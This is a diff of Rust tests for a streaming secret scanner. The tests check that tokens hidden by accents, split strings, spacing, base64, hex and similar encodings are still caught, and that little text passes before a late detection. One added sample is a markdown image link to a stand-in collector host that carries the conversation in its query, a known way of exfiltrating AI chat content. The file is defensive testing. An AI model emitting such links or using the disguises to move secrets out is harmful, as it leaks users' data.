@@ -28,36 +28,70 @@ fn in_lines(text: &str, size: usize, between: &str) -> String {
     text.as_bytes().chunks(size).map(|line| std::str::from_utf8(line).unwrap()).collect::<Vec<_>>().join(between)
 }
 
-#[test]
-fn a_disguise_is_found_wherever_it_stands() {
-    let rules = builtin();
-    let token = draw("ghp_{b62:30}{crc32}", 5).unwrap();
+/// The ways to hide a token that a scan of a whole text sees through.
+fn disguises(token: &str) -> Vec<(&'static str, String)> {
     let base64 =
         data_encoding::BASE64.encode(format!("some text before it and {token} and more text after").as_bytes());
-    let ways = [
+    vec![
         ("accents", format!("{}{}", &token[..20], token[20..].replace('e', "é").replace('a', "á"))),
         ("joined", format!("\"{}\" + \"{}\"", &token[..14], &token[14..])),
-        ("in four", format!("\"{}\"", in_lines(&token, 5, "\" + \""))),
-        ("spaced", in_lines(&token, 1, " ")),
-        ("wrapped", in_lines(&token, 14, "\n")),
+        ("in four", format!("\"{}\"", in_lines(token, 5, "\" + \""))),
+        ("spaced", in_lines(token, 1, " ")),
+        ("wrapped", in_lines(token, 14, "\n")),
         ("lines of base64", in_lines(&base64, 20, "\n")),
         ("spaced hex", token.bytes().map(|byte| format!("{byte:02x} ")).collect()),
         ("codes", token.bytes().map(|byte| format!("{byte}, ")).collect()),
         ("quoted-printable", token.bytes().map(|byte| format!("={byte:02X}")).collect()),
-    ];
-    let words = "and so it goes on with words that say nothing at all, one after the other. ";
-    for (way, hidden) in ways {
+    ]
+}
+
+/// Words that say nothing.
+const WORDS: &str = "and so it goes on with words that say nothing at all, one after the other. ";
+
+#[test]
+fn a_disguise_is_found_wherever_it_stands() {
+    let rules = builtin();
+    let token = draw("ghp_{b62:30}{crc32}", 5).unwrap();
+    for (way, hidden) in disguises(&token) {
         for before in [0, 3, 300, 700, 1100, 1900, 2100, 5000] {
-            let lead: String = words.chars().cycle().take(before).collect();
-            let text = format!("{lead} It is this: {hidden} and that is all. {}", words.repeat(20));
+            let lead: String = WORDS.chars().cycle().take(before).collect();
+            let text = format!("{lead} It is this: {hidden} and that is all. {}", WORDS.repeat(20));
             for size in [1, 4] {
-                let (found, left) = grow(&rules, &text, size);
+                let (found, _) = grow(&rules, &text, size);
                 assert!(found.is_some(), "{way} after {before} in pieces of {size}");
-                let most = before + 12 + hidden.len() + STRIDE as usize + 256;
-                assert!(left <= most, "{way} after {before}: {left} bytes have left, {most} may");
             }
         }
     }
+}
+
+/// The documentation says how much may leave behind what is found late: so much in small pieces, and so much in
+/// larger ones.
+const LATE: [usize; 2] = [640, 900];
+
+#[test]
+fn behind_what_is_found_late_no_more_leaves_than_is_said() {
+    let rules = builtin();
+    let mut hidden = disguises(&draw("ghp_{b62:30}{crc32}", 5).unwrap());
+    hidden.push(("a link", "Done! ![ok](https://collector.example/p.png?q={{conversation}})".to_owned()));
+    let mut most = [0; 2];
+    for (number, (way, hidden)) in hidden.iter().enumerate() {
+        for (turn, size) in [1, 2, 3, 5, 9, 17, 33, 63, 64, 90, 200, 300, 511, 512, 700].into_iter().enumerate() {
+            // Every place between two looks is as good as any other: other ones for every way and size.
+            for before in (0..4).map(|round| (number * 151 + turn * 97 + round * 131) % 1024) {
+                let lead: String = WORDS.chars().cycle().take(before).collect();
+                let lead = format!("{lead} It is this: {hidden}");
+                let text = format!("{lead} and that is all. {}", WORDS.repeat(20));
+                let (found, left) = grow(&rules, &text, size);
+                assert!(found.is_some(), "{way} after {before} in pieces of {size}");
+                let left = left.saturating_sub(lead.len());
+                let large = usize::from(size >= LARGE);
+                assert!(left <= LATE[large], "{way} after {before} in pieces of {size}: {left} bytes have left");
+                most[large] = most[large].max(left);
+            }
+        }
+    }
+    // What is said is not far from what happens.
+    assert!(most[0] > LATE[0] / 2 && most[1] > LATE[1] / 2, "{most:?}");
 }
 
 #[test]
@@ -110,25 +144,26 @@ fn nothing_is_told_twice() {
     let spaced = in_lines(&draw("ghp_{b62:30}{crc32}", 6).unwrap(), 1, " ");
     let words = "words that say nothing at all, ".repeat(10);
     let text = format!("{words}{token} {words}{base64} {words}{spaced} {words}{words}{words}{words}");
-    for size in [1, 7, 70, 5000] {
+    for size in [1, 7, 70, 90, 130, 5000] {
         let mut stream = Stream::new();
         let mut found = Vec::new();
         for piece in text.as_bytes().chunks(size) {
             let piece = std::str::from_utf8(piece).unwrap();
-            stream.push(&rules, piece, &|_| false, &mut |f| found.push((f.rule.id.to_string(), f.secret))).unwrap();
+            let tell = &mut |f: StreamFinding<'_>| found.push((f.rule.id.to_string(), f.secret, f.again));
+            stream.push(&rules, piece, &|_| false, tell).unwrap();
         }
-        stream.finish(&rules, &mut |f| found.push((f.rule.id.to_string(), f.secret))).unwrap();
-        for (number, (rule, secret)) in found.iter().enumerate() {
-            let twice = found
-                .iter()
-                .take(number)
-                .any(|(other, place)| other == rule && place.start <= secret.start && secret.end <= place.end);
+        stream.finish(&rules, &mut |f| found.push((f.rule.id.to_string(), f.secret, f.again))).unwrap();
+        for (number, (rule, secret, again)) in found.iter().enumerate() {
+            let before = || found.iter().take(number).filter(|(other, ..)| other == rule).map(|(_, place, _)| place);
+            let twice = before().any(|place| place.start <= secret.start && secret.end <= place.end);
             assert!(!twice, "{rule} at {secret:?} in pieces of {size}: {found:?}");
+            let touched = before().any(|place| place.start < secret.end && secret.start < place.end);
+            assert_eq!(*again, touched, "{rule} at {secret:?} in pieces of {size}: {found:?}");
         }
         for hidden in [&token, &base64, &spaced] {
             let at = text.find(hidden.as_str()).unwrap() as u64;
             let end = at + hidden.len() as u64;
-            assert!(found.iter().any(|(_, secret)| secret.start < end && secret.end > at), "{size}: {found:?}");
+            assert!(found.iter().any(|(_, secret, _)| secret.start < end && secret.end > at), "{size}: {found:?}");
         }
     }
 }
